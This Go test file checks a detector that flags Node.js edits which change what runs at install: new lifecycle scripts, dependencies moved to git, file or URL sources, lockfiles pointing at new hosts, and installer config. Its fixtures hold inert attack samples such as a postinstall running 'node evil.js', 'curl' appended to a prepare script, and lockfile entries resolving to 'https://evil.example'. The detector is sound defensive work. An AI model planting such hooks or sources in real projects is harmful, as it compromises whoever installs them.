package node

import (
	"sort"
	"strings"
	"testing"

	"github.com/fixpoint-dev/fixpoint/lang"
	"github.com/fixpoint-dev/fixpoint/sandbox"
)

func TestSetupChanges(t *testing.T) {
	const base = `{"name":"x","scripts":{"test":"node --test"},"dependencies":{"left-pad":"^1.3.0"}}`
	pj := func(s string) map[string]string { return map[string]string{"package.json": s} }
	runSetupCases(t, Language{}, []setupCase{
		{name: "postinstall added", before: pj(base),
			after: pj(`{"name":"x","scripts":{"test":"node --test","postinstall":"node evil.js"},"dependencies":{"left-pad":"^1.3.0"}}`),
			want:  []string{`package.json: sets the postinstall script, which the install step runs: "node evil.js"`}},
		{name: "every lifecycle script", before: pj(`{}`),
			after: pj(`{"scripts":{"preinstall":"a","install":"b","prepare":"c","prepack":"d","dependencies":"e"}}`),
			want:  []string{"preinstall", "sets the install script", "prepare", "prepack", "sets the dependencies script"}},
		{name: "escaped key and non-string sibling", before: pj(base),
			after: pj(`{"scripts":{"post\u0069nstall":"x","n":1},"dependencies":{"left-pad":"^1.3.0"}}`),
			want:  []string{"postinstall"}},
		{name: "lifecycle script changed", before: pj(`{"scripts":{"prepare":"tsc"}}`), after: pj(`{"scripts":{"prepare":"tsc && curl x"}}`),
			want: []string{`prepare script, which the install step runs: "tsc && curl x"`}},
		{name: "control characters are quoted", before: pj(`{}`), after: pj(`{"scripts":{"install":"x\u001b]0;t\u0007"}}`),
			want: []string{`"x\x1b]0;t\a"`}},
		{name: "workspace package's script", before: map[string]string{"packages/a/package.json": `{}`},
			after: map[string]string{"packages/a/package.json": `{"scripts":{"postinstall":"x"}}`}, want: []string{"packages/a/package.json: sets the postinstall"}},
		{name: "version spec changed to a path", before: pj(base), after: pj(`{"name":"x","scripts":{"test":"node --test"},"dependencies":{"left-pad":"file:../evil"}}`),
			want: []string{`changes the dependencies spec of "left-pad" from "^1.3.0" to "file:../evil"`}},
		{name: "new dependency from git", before: pj(base), after: pj(`{"dependencies":{"left-pad":"^1.3.0","y":"git+https://e.x/y.git"},"scripts":{"test":"node --test"}}`),
			want: []string{`adds dependencies "y" from "git+https://e.x/y.git"`}},
		{name: "new sources of every kind", before: pj(`{}`),
			after: pj(`{"devDependencies":{"a":"github:u/a","b":"u/b","c":"https://e.x/c.tgz","d":"npm:evil@1","e":"link:../e","f":"./f"}}`),
			want:  []string{`"a"`, `"b"`, `"c"`, `"d"`, `"e"`, `"f"`}},
		{name: "overrides and resolutions", before: pj(`{}`), after: pj(`{"overrides":{"a":"file:x"},"resolutions":{"b":"1"}}`),
			want: []string{"changes overrides", "changes resolutions"}},
		{name: "installer configuration", before: map[string]string{}, after: map[string]string{".npmrc": "registry=http://evil\n", ".pnpmfile.cjs": "x", ".yarnrc.yml": "yarnPath: x.js", "native/binding.gyp": "{}", ".yarn/plugins/p.cjs": "x"},
			want: []string{".npmrc", ".pnpmfile.cjs", ".yarn/plugins/p.cjs", ".yarnrc.yml", "native/binding.gyp"}},
		{name: "lockfile resolves somewhere new", before: map[string]string{"package-lock.json": `{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}`},
			after: map[string]string{"package-lock.json": `{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://evil.example/a.tgz"}}}`},
			want:  []string{`package-lock.json: resolves packages to new versions or sources: "https://evil.example/a.tgz"`}},
		{name: "yarn.lock resolves somewhere new", before: map[string]string{"yarn.lock": "a@^1:\n  version \"1.0.0\"\n  resolved \"https://registry.yarnpkg.com/a/-/a-1.0.0.tgz\"\n"},
			after: map[string]string{"yarn.lock": "a@^1:\n  version \"1.0.0\"\n  resolved \"https://evil.example/a.tgz\"\n"},
			want:  []string{`yarn.lock: resolves packages to new versions or sources: "https://evil.example/a.tgz"`}},
		{name: "pnpm-lock.yaml takes a new version", before: map[string]string{"pnpm-lock.yaml": "packages:\n  /a@1.0.0:\n    resolution: {integrity: sha512-x}\n"},
			after: map[string]string{"pnpm-lock.yaml": "packages:\n  /a@1.0.1:\n    resolution: {integrity: sha512-y}\n"},
			want:  []string{`pnpm-lock.yaml: resolves packages to new versions or sources: "/a@1.0.1:", "{integrity: sha512-y}"`}},
		{name: "lockfile reformatted only", before: map[string]string{"package-lock.json": `{"packages":{"node_modules/a":{"version":"1.0.0"}}}`},
			after: map[string]string{"package-lock.json": "{\"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\"}}}"}},
		{name: "invalid JSON", before: pj(base), after: pj(`{"scripts":`), want: []string{"is not valid JSON"}},

		// Near misses: test infrastructure or harmless, not setup.
		{name: "test script changed", before: pj(base), after: pj(`{"name":"x","scripts":{"test":"node --test --foo"},"dependencies":{"left-pad":"^1.3.0"}}`)},
		{name: "new registry dependency is left to the allow-list", before: pj(base), after: pj(`{"name":"x","scripts":{"test":"node --test"},"dependencies":{"left-pad":"^1.3.0","lodash":"^4.17.21"}}`)},
		{name: "reformatted", before: pj(base), after: pj("{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"node --test\"},\n  \"dependencies\": {\"left-pad\": \"^1.3.0\"}\n}\n")},
		{name: "lifecycle script removed", before: pj(`{"scripts":{"postinstall":"x"}}`), after: pj(`{"scripts":{}}`)},
		{name: "source file", before: map[string]string{"index.js": "a"}, after: map[string]string{"index.js": "b"}},
		{name: "a file an existing postinstall runs", before: map[string]string{"package.json": `{"scripts":{"postinstall":"node scripts/patch.js && echo ok"}}`, "scripts/patch.js": "a"},
			after: map[string]string{"package.json": `{"scripts":{"postinstall":"node scripts/patch.js && echo ok"}}`, "scripts/patch.js": "require('https').get('x')"},
			want:  []string{"scripts/patch.js: changes a file the postinstall script runs at install"}},
		{name: "installed output", before: map[string]string{}, after: map[string]string{"node_modules/.hooks/postinstall": "#!/bin/sh\n"},
			want: []string{"node_modules/.hooks/postinstall: writes into node_modules"}},
		{name: "a file only the test script runs", before: map[string]string{"package.json": `{"scripts":{"test":"node scripts/t.js"}}`, "scripts/t.js": "a"},
			after: map[string]string{"package.json": `{"scripts":{"test":"node scripts/t.js"}}`, "scripts/t.js": "b"}},
		{name: "deleted .npmrc", before: map[string]string{".npmrc": "x"}, after: map[string]string{}},
	})
}

// setupCase is an edit (before -> after; a file missing from after is
// deleted) and the changes SetupChanges must report: one substring of
// "file: what" per change, none for an edit setup does not see.
type setupCase struct {
	name          string
	before, after map[string]string
	want          []string
}

func runSetupCases(t *testing.T, l lang.SetupChanges, cases []setupCase) {
	t.Helper()
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			before, after := snapOf(tt.before), snapOf(tt.after)
			var changed []string
			for p := range tt.after {
				if b, ok := tt.before[p]; !ok || b != tt.after[p] {
					changed = append(changed, p)
				}
			}
			for p := range tt.before {
				if _, ok := tt.after[p]; !ok {
					changed = append(changed, p)
				}
			}
			sort.Strings(changed)
			got := l.SetupChanges(before, after, changed)
			if len(got) != len(tt.want) {
				t.Fatalf("SetupChanges(%v) = %q, want %d change(s) matching %q", changed, got, len(tt.want), tt.want)
			}
			for i, w := range tt.want {
				if !strings.Contains(got[i].String(), w) {
					t.Errorf("change %d = %q, want it to contain %q", i, got[i], w)
				}
				if strings.ContainsAny(got[i].String(), "\x1b\x07\r") {
					t.Errorf("change %d carries control characters: %q", i, got[i])
				}
			}
		})
	}
}

func snapOf(files map[string]string) *sandbox.Snapshot {
	s := &sandbox.Snapshot{Files: map[string]sandbox.File{}}
	for p, c := range files {
		s.Files[p] = sandbox.File{Data: []byte(c)}
	}
	return s
}

// An npm workspaces root without dependencies of its own still installs
// (npm links the packages into node_modules: `require('@shape/util')`
// fails without it), keyed by the packages' manifests too.
func TestSetupStepWorkspaces(t *testing.T) {
	files := map[string]string{
		"package.json":               `{"private":true,"workspaces":["packages/*"]}`,
		"package-lock.json":          `{}`,
		"packages/util/package.json": `{"name":"@shape/util"}`,
		"packages/core/package.json": `{"name":"@shape/core","dependencies":{"@shape/util":"1.0.0"}}`,
		"other/x/package.json":       `{"name":"x"}`,
	}
	st := (Language{}).SetupStep(snapOf(files))
	if st == nil || st.Name != "npm ci" {
		t.Fatalf("SetupStep = %+v, want npm ci for a workspaces root", st)
	}
	want := map[string]bool{"packages/util/package.json": true, "packages/core/package.json": true}
	for _, in := range st.Inputs {
		delete(want, in)
		if in == "other/x/package.json" {
			t.Errorf("inputs include a package outside the workspaces: %v", st.Inputs)
		}
	}
	if len(want) != 0 {
		t.Errorf("inputs %v lack %v", st.Inputs, want)
	}
	files["package.json"] = `{"private":true,"workspaces":{"packages":["packages/*"]}}`
	if (Language{}).SetupStep(snapOf(files)) == nil {
		t.Errorf("the object form of workspaces gives no setup step")
	}
	files["package.json"] = `{"private":true}`
	if st := (Language{}).SetupStep(snapOf(files)); st != nil {
		t.Errorf("a root without dependencies or workspaces has a setup step: %+v", st)
	}
}
